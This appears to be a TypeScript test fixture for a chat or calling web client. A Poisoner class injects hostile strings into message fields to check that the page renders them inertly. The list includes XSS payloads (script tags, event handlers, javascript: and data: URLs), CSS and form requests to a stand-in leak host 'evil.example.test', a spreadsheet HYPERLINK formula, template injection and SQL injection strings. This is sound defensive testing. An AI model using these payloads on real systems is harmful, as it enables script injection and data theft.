/** What no page may ever ask for. */
export const EVIL_HOST = "evil.example.test"
const EVIL = `https://${EVIL_HOST}/leak`

/** Called by whatever gets to run; the page of a test says so in the console, where the witness hears it. */
const RUN = "injected()"

/** The rest of the line would be written backwards. */
export const OVERRIDE = "\u202Egnp.ecaf\u202Dx\u2067"

const LONG = "W".repeat(400)

/** Texts that run, load, lead away, break out, break the layout or the folds, wherever a text is not kept a text. */
export const HOSTILE_TEXTS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `"><svg onload=${RUN}><!--`,
  `'-->"/></title></textarea></style></script><svg/onload=${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<a href="javascript:${RUN}">a</a><base href=${EVIL}>`,
  `<style>*{background:url(${EVIL})}</style>`,
  `<form action=${EVIL}><button formaction=javascript:${RUN}>b`,
  `<meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `javascript:${RUN}`,
  ` \tJaVaScRiPt:${RUN}//`,
  `data:text/html,<script>opener.${RUN}</script>`,
  `" onmouseover="${RUN}" autofocus onfocus="${RUN}" x="`,
  `red;background:url(${EVIL})`,
  `expression(${RUN})`,
  `}*{background:url(${EVIL})}`,
  `url("${EVIL}")`,
  "${injected()}",
  "{{constructor.constructor('injected()')()}}",
  "{{name}} {{count}} $t(login.title) $t(app.tagline, {})",
  "&lt;script&gt;injected()&lt;/script&gt; &#60;b&#62; &nbsp;",
  "%3Cscript%3Einjected()%3C/script%3E %s %n %",
  "$& $1 $` \\u0041 \\",
  OVERRIDE,
  "a\u0000b\u0007c\u001b[31m",
  "\ud83d\ude00\u0301\u0301\u0301\u0489\ufeff\u200b",
  "\ud800",
  LONG,
  "__proto__",
  "constructor",
  "toString",
  "..",
  " ",
  '=HYPERLINK("https://evil.example.test/leak")',
  "' OR 1=1; --"
]

/**
 * How the page shows a text from the wire (SHELL-11): the letters as they are, without control characters and bidirectional marks, which would
 * change how the texts beside it are shown. A lone surrogate is drawn as U+FFFD.
 */
export const shownText = (text: string): string => text.replace(/(?![\t\n\r])\p{Cc}|\p{Bidi_Control}/gu, "").toWellFormed()

/** Addresses for where a picture is wanted: none of them is one. */
const HOSTILE_PICTURES: readonly string[] = [
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script></svg>`,
  `x" onerror="${RUN}`,
  `");}*{background:url(${EVIL})}`
]

/** What makes a message the message it is: changed, it would be another, or none. */
const STRUCTURE = new Set(
  "type token pin_code id chatId contactId who status url urls sdp candidate sdpMid mediaId signalling credential jackpot kind pressId transferId requestId direction videoTypes".split(
    " "
  )
)
const PICTURES = new Set(["image", "avatar", "logo"])

const isObject = (value: unknown): value is Readonly<Record<string, unknown>> => typeof value === "object" && value !== null

/** Puts a hostile text in the place of every text, each in its turn, and remembers which stands for what. */
export class Poisoner {
  /** By the name of the field. */
  readonly placed = new Map<string, Set<string>>()
  readonly #isStructure: (key: string) => boolean
  #next = 0

  constructor(isStructure = (key: string): boolean => STRUCTURE.has(key)) {
    this.#isStructure = isStructure
  }

  #text(key: string): string {
    const known = this.placed.get(key) ?? new Set()
    const list = PICTURES.has(key) ? HOSTILE_PICTURES : HOSTILE_TEXTS
    // What could spoil the page around it is tried on every field.
    const first = PICTURES.has(key) ? undefined : [OVERRIDE, LONG][known.size]
    const text = first ?? list[(this.#next += 1) % list.length] ?? ""
    this.placed.set(key, known.add(text))
    return text
  }

  poison = (value: unknown, key = ""): unknown => {
    if (typeof value === "string") return this.#isStructure(key) ? value : this.#text(key)
    if (Array.isArray(value)) return value.map((one) => this.poison(one, key))
    if (!isObject(value)) return value
    return Object.fromEntries(Object.entries(value).map(([name, one]) => [name, this.poison(one, name)]))
  }

  /** The same for a message or an answer as it goes over the wire. */
  poisonJson = (text: string): string => {
    const message: unknown = JSON.parse(text)
    return JSON.stringify(this.poison(message))
  }
}
